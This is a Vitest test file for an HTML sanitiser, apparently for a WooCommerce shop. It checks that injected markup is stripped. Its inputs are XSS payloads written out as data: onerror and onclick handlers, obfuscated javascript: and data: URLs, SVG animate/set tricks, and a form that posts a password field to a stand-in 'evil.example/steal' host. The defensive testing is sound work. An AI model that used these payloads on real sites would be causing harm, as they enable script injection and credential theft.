// @vitest-environment jsdom
// DOMPurify mis-sanitises under happy-dom (it keeps <script> there), so the sanitiser is tested in jsdom.
import { describe, expect, it } from 'vitest';
import { inlineHtml, serverHtml } from './sanitize';

const html = (fragment: DocumentFragment) => {
  const box = document.createElement('div');
  box.append(fragment);
  return box.innerHTML;
};

describe('inline price HTML', () => {
  it('keeps WooCommerce price markup', () => {
    const price =
      '<del aria-hidden="true"><span class="woocommerce-Price-amount amount"><bdi>19,90&nbsp;€</bdi></span></del> <ins><span class="amount">14,90 €</span></ins>';
    expect(html(inlineHtml(price))).toBe(price);
  });

  it('drops scripts, handlers, links and images but keeps harmless text', () => {
    const out = html(
      inlineHtml(
        '<span onclick="x()" style="color:red">9 €</span><img src=x onerror="window.__xss=1"><script>window.__xss=1</script><a href="javascript:x()">mehr</a><svg><script>1</script></svg>',
      ),
    );
    expect(out).toBe('<span>9 €</span>mehr');
  });
});

describe('server HTML', () => {
  it('keeps forms, images and links, removes what could run', () => {
    const out = html(
      serverHtml(
        '<form class="cart" action="/p/"><input name="quantity" value="1" onfocus="x()"><button formaction="javascript:alert(1)">Kaufen</button></form><img src="/a.jpg" onerror="x()"><a href=" jAvA\tscript:alert(1)">x</a><a href="/ok/">ok</a><script>x()</script><iframe src="https://example.org/"></iframe>',
      ),
    );
    expect(out).toBe(
      '<form class="cart" action="/p/"><input name="quantity" value="1"><button>Kaufen</button></form><img src="/a.jpg"><a>x</a><a href="/ok/">ok</a>',
    );
  });

  it('drops <style>, <link>, MathML, SVG animation and data: URLs', () => {
    const out = html(
      serverHtml(
        '<style>body{display:none}</style><link rel="stylesheet" href="/x.css"><math><mi>x</mi></math><svg><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/><path d="M0 0"/></svg><img src="data:image/svg+xml,<svg onload=alert(1)>"><a href="data:text/html,<script>alert(1)</script>">d</a>',
      ),
    );
    expect(out).not.toMatch(/<style|<link|<math|<animate|<set|data:/i);
    expect(out).toContain('<path d="M0 0"></path>');
    expect(out).toContain('<a>d</a>');
  });

  it('lets forms post only to this site', () => {
    const out = html(
      serverHtml(
        `<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="//evil.example/">x</button></form><form action="${location.origin}/checkout/"></form>`,
      ),
    );
    expect(out).toBe(`<form method="post"><input name="pw"><button>x</button></form><form action="${location.origin}/checkout/"></form>`);
  });

  it('keeps island hosts only for the islands the caller names', () => {
    const out = html(
      serverHtml(
        '<form data-island="add-to-cart"></form><div data-island="lazy-scripts" data-flag="fetch"></div><div class="q" data-island="quantity"></div>',
        { islands: ['add-to-cart'] },
      ),
    );
    expect(out).toBe('<form data-island="add-to-cart"></form><div data-flag="fetch"></div><div class="q"></div>');
  });

  it('allows https embeds only when asked, and opens new tabs without an opener', () => {
    const embed =
      '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><iframe src="http://plain.example/"></iframe><a href="/p/" target="_blank">p</a>';
    expect(html(serverHtml(embed))).toBe('<a href="/p/" target="_blank" rel="noopener noreferrer">p</a>');
    expect(html(serverHtml(embed, { embeds: true }))).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><a href="/p/" target="_blank" rel="noopener noreferrer">p</a>',
    );
  });

  it('renders a hostile string as text, not markup', () => {
    const out = html(serverHtml('<p>Kaffee "&lt;img src=x onerror=alert(1)&gt;"</p><img src=x onerror=alert(1)>'));
    expect(out).toBe('<p>Kaffee "&lt;img src=x onerror=alert(1)&gt;"</p><img src="x">');
  });
});

describe('URLs that other code turns into a src later', () => {
  it('keeps data-src-cmplz, data-cmplz-src and data-lazy-src only when they are http(s) or relative', () => {
    const out = html(
      serverHtml(
        '<iframe src="https://video.example/a" data-src-cmplz="javascript:alert(1)"></iframe>' +
          '<iframe src="https://video.example/b" data-src-cmplz=" data:text/html,x"></iframe>' +
          '<iframe src="https://video.example/c" data-lazy-src="vbscript:x"></iframe>' +
          '<div data-cmplz-src="JaVaScRiPt:alert(1)"></div>' +
          '<iframe src="https://video.example/d" data-src-cmplz="https://www.youtube-nocookie.com/embed/d"></iframe>' +
          '<img data-lazy-src="/wp-content/uploads/e.jpg">',
        { embeds: true },
      ),
    );
    expect(out).toBe(
      '<iframe src="https://video.example/a"></iframe><iframe src="https://video.example/b"></iframe><iframe src="https://video.example/c"></iframe><div></div>' +
        '<iframe src="https://video.example/d" data-src-cmplz="https://www.youtube-nocookie.com/embed/d"></iframe><img data-lazy-src="/wp-content/uploads/e.jpg">',
    );
  });
});
